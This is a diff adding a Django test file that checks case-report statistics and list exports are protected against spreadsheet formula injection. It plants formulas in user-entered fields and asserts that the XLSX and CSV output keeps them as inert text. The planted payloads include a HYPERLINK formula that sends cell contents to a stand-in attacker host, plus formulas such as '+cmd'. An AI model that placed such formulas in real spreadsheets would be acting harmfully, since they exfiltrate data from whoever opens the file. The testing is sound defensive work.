@@ -1,0 +1,210 @@
+"""Issue 12, items 10 and 15: exports never carry a live formula, and background export files expire and go
+only to someone who still holds the statistics role and reach that made them.
+
+Item 10 plants spreadsheet formulas where the public and staff type text (a public report's summary, place and
+subject; a staff report's summary, allegation and subject; an accountability target's name; a commission's
+name) and reads every export back: XLSX with openpyxl and as raw sheet XML, CSV as text.
+"""
+
+import csv
+import datetime
+import io
+import re
+import zipfile
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone, translation
+from django.utils.http import urlencode
+from openpyxl import load_workbook
+
+from accounts import services as account_services
+from cases.choices import Category, Finding, Rank, SubjectKind
+from cases.models import Report
+from cases.services import AllegationInput, SubjectInput
+from clarification import services as clarification_services
+from stats.models import ExportJob, ExportStatus
+
+from .cases_helpers import register, to_concluded
+from .clarification_helpers import draft, execute, reviewers, to_approved
+from .stats_helpers import period_params
+from .test_accountability_workflow import FIRST_FORM, initiate, person, to_proposed
+from .test_public_intake import fresh_cache, submit  # noqa: F401 - fresh_cache: a cache namespace per test
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A5,"点击查看附件")'
+TAB = "\t=1+2"
+RISKY = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_XML = re.compile(r"<f[\s>/]")
+
+
+@pytest.fixture
+def planted(client, tree, zhanyi_intake, zhanyi_supervisor, zhanyi_investigator):
+    """Formulas typed wherever the public and the staff type text, each reaching at least one export."""
+    zhanyi = tree["zhanyi"]
+    # Commission names as an administrator types them (no form strips them): they head the statistics and the
+    # roster, and fill a column of every list.
+    account_services.commission_update(commission=zhanyi, name_zh=HYPERLINK, name_en=HYPERLINK)
+    account_services.commission_update(commission=tree["qujing"], name_zh=TAB, name_en=TAB)
+    # The public form: the summary, the scan-a-code place and the subject.
+    response = submit(client, place="@SUM(A1)", summary=HYPERLINK, subjects=[("person", "+cmd", "-2+3", "@SUM(A1)")])
+    assert response.status_code == 200
+    public = Report.objects.get(summary=HYPERLINK)
+    assert public.place == "@SUM(A1)"
+    # A staff registration, concluded and clarified into the monthly batch.
+    staff = register(
+        zhanyi_intake,
+        zhanyi,
+        summary="-2+3",
+        allegations=[
+            AllegationInput(
+                text="@SUM(A1)",
+                category=Category.INTEGRITY,
+                new_subject=SubjectInput(
+                    kind=SubjectKind.PERSON, name="+cmd", unit="-2+3", position="科员", rank=Rank.TOWNSHIP_SECTION
+                ),
+            )
+        ],
+    ).report
+    to_concluded(staff, zhanyi_supervisor, zhanyi_investigator, findings=(Finding.UNSUBSTANTIATED,))
+    offices = reviewers(zhanyi, "zy")
+    recommendation = to_approved(
+        draft(staff, zhanyi_investigator, name="+cmd"), zhanyi_investigator, offices, zhanyi_supervisor
+    )
+    batch = clarification_services.batch_build(city=tree["qujing"], month=timezone.localdate(), actor=None)
+    execute(recommendation, zhanyi_investigator)  # counted by commission in the statistics
+    # An accountability decision about a person whose name is a formula.
+    case = initiate(zhanyi_supervisor, zhanyi, [person(zhanyi, name="-2+3")])
+    for decision in to_proposed(zhanyi_supervisor, case, FIRST_FORM):
+        from accountability import services as accountability_services
+
+        accountability_services.decision_approve(actor=zhanyi_supervisor, decision=decision)
+    return {"public": public, "staff": staff, "recommendation": recommendation, "batch": batch}
+
+
+# Per export, the planted texts that each fill one cell on their own.
+EXPECTED = {
+    "reports": [HYPERLINK, "-2+3", "@SUM(A1)", "+cmd"],
+    "clarifications": [HYPERLINK, "+cmd"],
+    "decisions": [HYPERLINK, "-2+3"],
+}
+
+
+def _url(name, *args, **params):
+    return reverse(name, args=args) + ("?" + urlencode(params) if params else "")
+
+
+def _body(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def assert_xlsx_inert(content: bytes, expected: list[str]) -> list[list]:
+    """No formula anywhere in the sheet XML; every text cell is a string cell; each planted text is kept as typed.
+    Returns the values of every sheet's rows."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
+        assert sheets
+        for name in sheets:
+            assert not FORMULA_XML.search(archive.read(name).decode("utf-8")), f"a formula in {name}"
+    book = load_workbook(io.BytesIO(content))
+    texts, rows = [], []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            rows.append([cell.value for cell in row])
+            for cell in row:
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
+                    texts.append(cell.value)
+                    if cell.value.startswith(RISKY):
+                        # Excel keeps the cell text even when someone edits it (the apostrophe it adds itself).
+                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
+    for value in expected:
+        assert value in texts, value
+    return rows
+
+
+def assert_csv_inert(content: bytes, expected: list[str]) -> list[list[str]]:
+    """No cell starts with = + - @, a tab or a carriage return; each planted text is there behind an apostrophe."""
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(RISKY)]
+    for value in expected:
+        assert "'" + value in cells, value
+    return rows
+
+
+# --- item 10: exports carry no live formula --------------------------------------------------------------------
+
+
+def test_statistics_exports_write_a_formula_commission_name_as_text(client, planted, tree, qujing_supervisor):
+    client.force_login(qujing_supervisor)
+    xlsx = client.get(_url("stats:statistics-export", tree["qujing"].pk, "xlsx", **period_params()))
+    assert xlsx.status_code == 200
+    rows = assert_xlsx_inert(_body(xlsx), [HYPERLINK, TAB])
+    # Figures stay numbers: the row of the planted commission carries its counts as numeric cells.
+    zhanyi_rows = [row for row in rows if HYPERLINK in row and any(isinstance(v, int) for v in row)]
+    assert zhanyi_rows
+    csv_response = client.get(_url("stats:statistics-export", tree["qujing"].pk, "csv", **period_params()))
+    assert csv_response.status_code == 200
+    rows = assert_csv_inert(_body(csv_response), [HYPERLINK, TAB])
+    zhanyi_rows = [row for row in rows if "'" + HYPERLINK in row]
+    assert zhanyi_rows and all(re.fullmatch(r"\d+", row[-1]) for row in zhanyi_rows)  # numbers unquoted
+
+
+@pytest.mark.parametrize("kind", ["reports", "clarifications", "decisions"])
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_list_exports_write_planted_formulas_as_text(client, planted, qujing_supervisor, kind, fmt):
+    client.force_login(qujing_supervisor)
+    response = client.get(_url("stats:list-export", kind, fmt))
+    assert response.status_code == 200
+    if fmt == "xlsx":
+        rows = assert_xlsx_inert(_body(response), EXPECTED[kind])
+        if kind == "reports":  # the number of allegations stays a number
+            assert any(isinstance(v, int) for row in rows[3:] for v in row)
+    else:
+        rows = assert_csv_inert(_body(response), EXPECTED[kind])
+        if kind == "reports":
+            assert all(re.fullmatch(r"\d+", row[15]) for row in rows[3:])
+
+
+def test_batch_roster_writes_planted_formulas_as_text(client, planted, tree, qujing_supervisor):
+    client.force_login(qujing_supervisor)
+    response = client.get(reverse("clarification:batch-xlsx", args=[planted["batch"].pk]))
+    assert response.status_code == 200
+    rows = assert_xlsx_inert(_body(response), [HYPERLINK, TAB, "+cmd", "-2+3科员", "@SUM(A1)"])
+    assert any(isinstance(v, int) for v in rows[-1])  # the totals stay numbers
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_background_export_writes_planted_formulas_as_text(
+    client, planted, qujing_supervisor, fmt, django_capture_on_commit_callbacks
+):
+    client.force_login(qujing_supervisor)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(reverse("stats:export-start"), {"kind": "reports", "fmt": fmt, "query": ""})
+    job = ExportJob.objects.get()
+    assert job.status == ExportStatus.DONE  # written by the task
+    response = client.get(reverse("stats:export-download", args=[job.pk]))
+    assert response.status_code == 200
+    if fmt == "xlsx":
+        assert_xlsx_inert(_body(response), EXPECTED["reports"])
+    else:
+        assert_csv_inert(_body(response), EXPECTED["reports"])
+
+
+def test_csv_cell_neutralises_text_only():
+    from core.spreadsheets import csv_cell, csv_row
+
+    for text in (HYPERLINK, "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-"):
+        assert csv_cell(text) == "'" + text
+    for kept in ("王某", "", "a=b", "3", " =1"):
+        assert csv_cell(kept) == kept
+    for number in (3, -3, -2.5, 0, None):
+        assert csv_cell(number) == number
+    row = [HYPERLINK, "王某", -3, None, 2.5, "-2+3", translation.gettext_lazy("=lazy"), datetime.date(2026, 1, 2)]
+    assert (
+        csv_row(row)
+        == [csv_cell(v) for v in row]
+        == ["'" + HYPERLINK, "王某", -3, None, 2.5, "'-2+3", "'=lazy", "2026-01-02"]
+    )
